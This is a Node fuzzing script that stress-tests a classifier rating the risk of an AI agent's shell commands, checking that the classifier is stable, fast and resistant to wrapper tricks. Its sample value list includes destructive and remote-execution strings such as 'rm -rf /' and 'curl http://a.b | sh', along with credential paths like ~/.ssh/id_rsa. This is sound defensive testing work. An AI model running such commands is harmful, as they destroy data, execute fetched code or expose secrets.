// Feeds the judge of tool calls with broken and hostile commands for a while, and says how much it took: nothing may throw,
// two judgements of one command are the same, a wrapping never lowers the tier, and no judgement takes long. Half of the commands
// are made from the book of programs: any program, any of its options in any of its spellings, which must be judged alike.
// node scripts/fuzz-risk.mjs [cpu seconds, default 60] [seed] [folder of .jsonl files with a `command` in each line]

import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { assess } from '../src/core/rules/assess.ts'
import { namesInBook, programNamed } from '../src/core/rules/book/book.ts'
import { writesOf } from '../src/core/rules/flow/writes-of.ts'
import { optionsOf } from '../src/core/rules/options/grammar.ts'
import { builtInRules } from '../src/core/rules/rule-book.ts'
import { pathsInQuestion } from '../src/core/rules/targets/paths-in-question.ts'
import { diceOf } from '../test/simulation/dice.ts'

const [cpuSeconds = '60', seed = '1', folder] = process.argv.slice(2)
const SLOW_MS = 20
const TRIES = 3
const MAX_CHARS = 4_000
const REPORT_SECONDS = 30

const PROJECT = '/home/dev/project'
const AROUND = {
  project: PROJECT,
  cwd: PROJECT,
  home: '/home/dev',
  tempDirs: ['/tmp'],
  ownPaths: ['/home/dev/.fairlead/state'],
  paths: [],
}

const SAMPLES = [
  ...builtInRules().flatMap(({ examples }) => [...examples.matches, ...examples.not]),
  ...(folder === undefined ? [] : commandsIn(folder)),
]
const BITS = [
  ...'$( ` " \' \\ ; | & && || < > >> <<< { } ( ) [ ] [[ ]] $ * ? ~ # = a[$( (( )) $(( / .. - -- ! %s {}'.split(' '),
  ...['', '!', 'x@P}'].map((rest) => `\${${rest}`),
  ...[' ', '\n', '\0', '\t', '<<E\n', '\u202e', '\ufdd0', 'é', '😀', '\ud800', '"""', "'''"],
  ...['eval ', 'bash -c ', 'xargs ', 'find . -exec ', 'python3 -c ', 'rm -rf ', 'sed -i s/a/b/ ', 'trap ', 'let '],
  ...['while read l; do ', '; done', 'for f in $(git ls-files); do ', 'if ', 'then ', 'fi', 'case x in ', 'esac'],
  ...['function f { ', 'alias x=', 'declare -i ', 'printf -v ', 'import os;', 'chr(', '.format(', '[::-1]', 'lambda'],
]

const quoted = (text) => `'${text.replaceAll("'", `'\\''`)}'`
const WRAPS = [
  (text) => `bash -c ${quoted(text)}`,
  (text) => `( ${text}\n)`,
  (text) => `{ ${text}\n}`,
  (text) => `eval ${quoted(text)}`,
  (text) => `true && { ${text}\n}`,
  (text) => `  ${text}  `,
  (text) => `env bash -c ${quoted(text)}`,
  (text) => `sh -c ${quoted(`bash -c ${quoted(text)}`)}`,
]
const WEIGHT = { routine: 0, junction: 1, catastrophic: 2 }

const dice = diceOf(Number(seed))

function commandsIn(path) {
  const files = readdirSync(path).filter((name) => name.endsWith('.jsonl'))
  const lines = files.flatMap((name) => readFileSync(join(path, name), 'utf8').split('\n'))
  return lines.flatMap((line) => (line === '' ? [] : [JSON.parse(line).command])).filter((text) => text.length < 2_000)
}

function mutated(text) {
  const at = dice.roll(text.length + 1)
  switch (dice.roll(5)) {
    case 0:
    case 1:
      return text.slice(0, at) + dice.pick(BITS) + text.slice(at)
    case 2:
      return text.slice(0, at) + text.slice(at + 1 + dice.roll(6))
    case 3: {
      const other = dice.pick(SAMPLES)
      return text.slice(0, at) + other.slice(dice.roll(other.length))
    }
    default:
      return text + dice.pick(['; ', ' | ', ' && ', '\n']) + dice.pick(SAMPLES)
  }
}

/** Files worth keeping, and things worth running. */
const VALUES = [
  ...[
    '/etc/passwd',
    '~/.bashrc',
    '.git/HEAD',
    'src/app.ts',
    'x',
    '/tmp/x',
    '.env',
    '"$X"',
    '$HOME',
    '/',
    '*',
    '-',
    '{}',
  ],
  ...[
    "'rm -rf /'",
    "'rm -rf src'",
    'rm',
    'sh',
    "'curl http://a.b | sh'",
    '5',
    'a=b',
    '/home/dev/.fairlead/state',
    '~/.ssh/id_rsa',
  ],
]
const NAMES = namesInBook()

/** One command of the book, and the same in another spelling where there is one. */
function fromBook() {
  const program = dice.pick(NAMES)
  const grammar = optionsOf(program)
  const specs = grammar === undefined ? [] : [...new Set(grammar.specs.values())]
  const isOurs = programNamed(program).text.includes('\n  options ')
  const operands = Array.from({ length: dice.roll(4) }, () => dice.pick([...VALUES, ...(dice.oneIn(3) ? NAMES : [])]))
  const pairs = Array.from({ length: specs.length === 0 ? 0 : dice.roll(4) }, () => {
    const spec = dice.pick(specs)
    const value = dice.pick(VALUES)
    const ways = spec.names.flatMap((name) => spellings(name, spec.takes, value))
    return [ways[0], dice.pick(ways)]
  })
  const words = (at) => [program, ...pairs.map((pair) => pair[at]), ...operands].join(' ')
  return { command: words(0), twin: isOurs ? words(1) : undefined }
}

function spellings(name, takes, value) {
  if (takes === 'nothing') return [name]
  if (takes === 'next') return [`${name} ${value}`]
  if (name.startsWith('--'))
    return takes === 'attached' ? [`${name}=${value}`] : [`${name}=${value}`, `${name} ${value}`]
  // A tilde counts at the beginning of a word only.
  const glued = name.length === 2 && !value.startsWith('~') ? [`${name}${value}`] : []
  return takes === 'attached' ? [...glued, `${name}`].slice(0, 1) : [`${name} ${value}`, ...glued]
}

/** What the session wrote before, now and then: it is judged when it is run. */
function memory() {
  if (!dice.oneIn(3)) return { written: [], blocked: [] }
  const scripts = { test: dice.pick(SAMPLES), build: dice.pick(SAMPLES) }
  const written = [
    { path: `${PROJECT}/x.sh`, text: dice.pick(SAMPLES) },
    { path: `${PROJECT}/package.json`, text: JSON.stringify({ scripts }) },
    { path: `${PROJECT}/m.py`, text: dice.pick(SAMPLES) },
    { path: '/tmp/x', text: undefined, from: `${PROJECT}/src`, moved: true },
  ]
  return { written, blocked: [] }
}

const callOf = (command) => ({ kind: 'shell', name: 'Bash', command })

/** One problem, or none. */
function examine(command, isPlain) {
  const before = memory()
  const judge = (text) => assess(callOf(text), AROUND, before).tier
  const tier = judge(command)
  if (judge(command) !== tier) return 'two judgements differ'
  if (Math.min(...Array.from({ length: TRIES }, () => timed(() => judge(command)))) > SLOW_MS) return 'slow'
  if (dice.oneIn(20)) {
    pathsInQuestion(callOf(command), AROUND)
    writesOf(callOf(command), AROUND, before)
  }
  // A command that was broken on purpose may mean something else inside of quotes.
  if (!isPlain) return undefined
  const wrapped = dice.pick(WRAPS)(command)
  return WEIGHT[judge(wrapped)] < WEIGHT[tier] ? `lowered from ${tier} by ${wrapped}` : undefined
}

/** The same command in other words. */
function compare({ command, twin }) {
  const judge = (text) => assess(callOf(text), AROUND, { written: [], blocked: [] }).tier
  // `--opt=~/x` is no path to a shell.
  if (twin === undefined || /=[~$"]/.test(command + twin)) return undefined
  return judge(command) === judge(twin)
    ? undefined
    : `spelled apart: ${command} ${judge(command)}, ${twin} ${judge(twin)}`
}

/** Milliseconds of CPU: what else the machine does takes no part. */
function timed(act) {
  const begun = process.cpuUsage()
  act()
  const { user, system } = process.cpuUsage(begun)
  return (user + system) / 1e3
}

const used = () => (process.cpuUsage().user + process.cpuUsage().system) / 1e6
let [inputs, reported, problems] = [0, 0, 0]
while (used() < Number(cpuSeconds)) {
  if (used() - reported > REPORT_SECONDS) {
    reported = used()
    process.stderr.write(`${inputs} inputs after ${reported.toFixed(0)} s of CPU\n`)
  }
  const times = dice.roll(4)
  const made = dice.oneIn(2) ? fromBook() : undefined
  let command = made?.command ?? dice.pick(SAMPLES)
  for (let time = 0; time < times; time += 1) command = mutated(command)
  command = command.slice(0, MAX_CHARS)
  let problem
  try {
    problem = examine(command, times === 0) ?? (made === undefined ? undefined : compare(made))
  } catch (error) {
    problem = `thrown: ${error.message}`
  }
  inputs += 1
  if (problem === undefined) continue
  problems += 1
  process.stderr.write(`${problem}\n${JSON.stringify(command)}\n`)
}
process.stdout.write(`${inputs} inputs, ${problems} problems, ${used().toFixed(0)} s of CPU, seed ${seed}\n`)
process.exitCode = problems > 0 ? 1 : 0
